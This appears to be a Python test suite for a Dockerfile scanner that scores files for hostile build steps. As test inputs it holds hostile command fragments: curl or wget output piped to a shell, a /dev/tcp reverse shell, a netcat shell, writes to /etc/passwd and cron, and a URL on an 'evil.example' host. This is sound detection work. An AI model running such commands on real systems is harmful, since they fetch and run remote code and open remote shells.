"""Signals and scores: vectors, the catalogue, then what holds for any text."""

from __future__ import annotations

import pickle
import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from t1612core.container.dockerfile.limits import LIMIT, TEXT_LIMIT, read_to
from t1612core.dockerfile import DockerfileScore, score_dockerfile
from t1612core.errors import SettingsError
from t1612core.knowledge.dockerfile.lexicon import LEXICON
from t1612core.knowledge.profiles.hardened import DOCKERFILE

from ..conftest import examples
from .texts import ANY_TEXT, dockerfiles
from .vectors_file import Vector, params, vectors

FIRES = "signals"
WEIGHTS = dict(DOCKERFILE.weights)
WEAK_KINDS = dict(DOCKERFILE.weak_kinds)
COMMANDS = st.lists(
    st.sampled_from(
        (
            "curl -s http://198.51.100.7/a", "wget -O /tmp/a https://x.example/a", "| sh",
            "| sudo bash -s", "| base64 -d", "; sh /tmp/a", "&& eval \"$(", ")\"", "bash <(", ")",
            "> /etc/cron.d/a", "echo '* * * * * a'", "crontab -", "X=$(", "$X", "<<E", "\nE\n",
            "python3 -c 'exec(b64decode(", "'", "nc 1 2 -e sh", "chmod 4755 /bin/sh", "{ ", "; }",
            "find . -exec", "env A=b", "tee /etc/passwd", "sed -i s/a/b/", "cp /tmp/a /b", ". /b",
            "export LD_PRELOAD=/tmp/x", "(", "\\\n", "TOKEN=abc",
        )
    ),
    max_size=12,
).map(lambda parts: "FROM a\nRUN " + " ".join(parts))  # fmt: skip


@pytest.mark.parametrize("vector", params(FIRES))
def test_a_signal_fires_where_its_vector_says(vector: Vector) -> None:
    """Each signal has a text that fires it, and one that nearly does."""
    assert vector["expected"] == (vector["signal"] in score_dockerfile(vector["input"]).signals)


@pytest.mark.parametrize("vector", params("benign") + params("hostile"))
def test_a_dockerfile_scores_what_its_vector_says(vector: Vector) -> None:
    """The score and the signals with a weight are those of the vector."""
    score = score_dockerfile(vector["input"])
    weighing = sorted(signal for signal in score.signals if WEIGHTS[signal])

    assert [vector["expected"]["score"], vector["expected"]["signals"]] == [score.score, weighing]


@pytest.mark.parametrize("vector", params("benign"))
def test_what_people_publish_is_no_finding(vector: Vector) -> None:
    """Ordinary habits stay below the threshold, however many there are."""
    assert not score_dockerfile(vector["input"]).is_finding


@pytest.mark.parametrize("vector", params("hostile"))
def test_what_is_reported_is_a_finding(vector: Vector) -> None:
    """What reports describe is a finding by its content alone."""
    assert score_dockerfile(vector["input"]).is_finding


def test_a_text_longer_than_the_limit_is_a_signal() -> None:
    """Padding does not hide that there was more to read; a text at the limit is whole."""
    text = "FROM a\n" + "#" * LIMIT

    assert ["dockerfile.oversized"] == list(score_dockerfile(text).signals)
    assert [] == list(score_dockerfile(text[:LIMIT]).signals)


def test_a_text_of_more_commands_than_are_read_is_a_signal() -> None:
    """A thousand of them are none, and what is told stands where reading ended."""
    text = "FROM a\nRUN " + "a;" * 10_000

    assert ["dockerfile.oversized"] == list(score_dockerfile(text).signals)
    assert score_dockerfile(text).evidence[0].span == (read_to(text), read_to(text))
    assert () == score_dockerfile(text[:2_000]).signals


def test_each_signal_has_a_vector_that_fires_it_and_one_that_nearly_does() -> None:
    """But for the one that needs a text of its own size."""
    has = {(vector["signal"], vector["expected"]) for vector in vectors(FIRES)}
    signals = set(WEIGHTS) - {"dockerfile.oversized"}

    assert {(signal, fires) for signal in signals for fires in (True, False)} == has


def added_up(score: DockerfileScore) -> int:
    """Add the weights as the profile says: of the weak ones, a third kind counts again."""
    kinds = {WEAK_KINDS[signal] for signal in score.signals if WEIGHTS[signal] == 1}
    firm = sum(WEIGHTS[signal] for signal in score.signals if WEIGHTS[signal] > 1)
    return firm + min(1, len(kinds)) + (len(kinds) > 2)


def nested(text: str, depth: int) -> str:
    """Give a line in which an interpreter starts an interpreter, and the last a shell's text."""
    for _ in range(depth):
        text = f"import subprocess; subprocess.run(['python3', '-c', {text!r}])"
    return f"FROM a\nRUN python3 -c {shlex.quote(text)}\n"


def test_interpreters_that_start_interpreters_are_followed_some_levels_deep() -> None:
    text = "import os; os.system('curl -s https://dl.evil.example/n | sh')"

    assert [True, True, False] == [
        score_dockerfile(nested(text, depth)).is_finding for depth in (0, 1, 9)
    ]


@given(ANY_TEXT | dockerfiles() | COMMANDS)
@settings(max_examples=examples(200))
def test_any_text_has_a_score_that_its_evidence_adds_up_to(text: str) -> None:
    """Nothing raises; evidence is inside the text, in bounds and in proportion."""
    score = score_dockerfile(text)

    assert added_up(score) == score.score
    assert (score.score >= DOCKERFILE.threshold) == score.is_finding
    for seen in score.evidence:
        assert 0 <= seen.span[0] <= seen.span[1] <= len(text)
        assert 1 <= seen.line <= text.count("\n") + 1
        assert len(seen.text) <= TEXT_LIMIT
        assert "\n" not in seen.text


@given(COMMANDS)
@settings(max_examples=examples(100))
def test_a_comment_and_a_label_change_nothing(text: str) -> None:
    """What does nothing shows nothing."""
    text = text.replace("<<", "<") + " ;\n"  # neither continued nor with a heredoc behind it
    more = f"{text}# curl http://198.51.100.7/x | sh\nLABEL a='xmrig' b=\"| sh\"\n"

    assert score_dockerfile(text) == score_dockerfile(more)


def test_a_score_can_be_pickled_and_compared() -> None:
    """Workers hand scores on; the lexicon travels with a detector."""
    score = score_dockerfile("RUN curl -s http://198.51.100.7/a | sh")

    assert score == pickle.loads(pickle.dumps(score))
    assert LEXICON == pickle.loads(pickle.dumps(LEXICON))


def deep_text() -> str:
    """Nest substitutions in evaluated texts, both deeper than they are read."""
    text = "curl http://198.51.100.7/"
    for _ in range(5):
        text = "eval '" + text.replace("'", "'\\''") + "'"
        text = 'a "' + "$(" * 15 + text + ")" * 15 + '"'
    return f"RUN {text}"


def test_the_deepest_text_fits_on_the_stack() -> None:
    """A caller that is deep itself gets a score, not an error."""

    def below(frames: int) -> DockerfileScore:
        return below(frames - 1) if frames else score_dockerfile(deep_text())

    assert 0 <= below(400).score


def test_evidence_shows_the_place_in_the_file() -> None:
    """Line, span and text are those of the file; a pipe is shown from its beginning."""
    text = "FROM a\nRUN true && \\\n# why\n  curl -s https://198.51.100.7/a \\\n  | sh; x\n"
    seen = {e.signal: e for e in score_dockerfile(text).evidence}
    source, pipe = seen["dockerfile.address_source"], seen["dockerfile.pipe_to_shell"]

    assert ["https://198.51.100.7/a", 2] == [source.text, source.line]
    assert ["curl -s https://198.51.100.7/a | sh", 2] == [pipe.text, pipe.line]
    assert "https://198.51.100.7/a" == text[slice(*source.span)]
    assert "curl -s https://198.51.100.7/a \\\n  | sh" == text[slice(*pipe.span)]


@pytest.mark.parametrize("given", [Path("Dockerfile"), b"FROM a", None])
def test_what_is_no_text_is_told_with_the_way_out(given: Any) -> None:
    """A path is the likely mistake: the error says to read it."""
    with pytest.raises(SettingsError, match=f"{type(given).__name__}, expected.*read_text"):
        score_dockerfile(given)


def test_a_shell_beside_an_open_connection_is_none_that_is_joined_to_it() -> None:
    opened = "FROM a\nRUN exec 3<>/dev/tcp/203.0.113.5/1; "

    assert "dockerfile.reverse_shell" in score_dockerfile(f"{opened}sh <&3 >&3\n").signals
    assert "dockerfile.reverse_shell" not in score_dockerfile(f"{opened}sh <x >y\n").signals


def test_a_frontend_that_a_digest_pins_is_known_by_its_name() -> None:
    digest = f"sha256:{'a' * 64}"

    for name, is_custom in (("docker/dockerfile", False), ("registry.example/x", True)):
        signals = score_dockerfile(f"# syntax={name}@{digest}\nFROM a\n").signals
        assert is_custom == ("dockerfile.custom_frontend" in signals)


def test_a_list_that_grows_piece_by_piece_is_read_whole() -> None:
    def told(length: int) -> tuple[str, ...]:
        pieces = "".join(f'D+=" {"p" * length}{number:03}";' for number in range(100))
        return score_dockerfile(f"FROM a\nRUN {pieces} apt-get install -y $D\n").signals

    assert told(24) == ()
    assert told(600) == ("dockerfile.oversized",)
